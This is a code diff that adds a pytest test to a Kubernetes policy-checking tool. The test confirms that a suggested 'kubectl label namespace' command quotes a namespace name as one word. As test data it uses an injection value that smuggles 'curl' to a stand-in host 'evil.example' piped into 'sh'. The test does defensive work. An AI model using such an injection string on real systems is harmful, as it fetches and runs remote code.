@@ -286,6 +286,17 @@ def test_a_namespace_beside_it_shows_whether_a_binding_holds(
     assert ("binding-without-renewals" in capsys.readouterr().out) == bool(code)
 
 
+def test_the_namespace_of_a_binding_is_one_word_of_the_command_to_label_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    name = "shop;curl${IFS}evil.example|sh"
+    (tmp_path / "policy.yaml").write_text(BINDING.replace("namespace: shop", f'namespace: "{name}"'))
+    file = written(tmp_path / "x.yaml", document())
+    assert main(["doctor", file, "--policy", str(tmp_path / "policy.yaml"), "--format", "json"]) == 1
+    (binding,) = json.loads(capsys.readouterr().out)["entries"][-1]["findings"]
+    assert f"kubectl label namespace '{name}' lease-webhook/renewals=reviewed" in binding["change"]
+
+
 @pytest.mark.parametrize(
     ("name", "words"),
     [
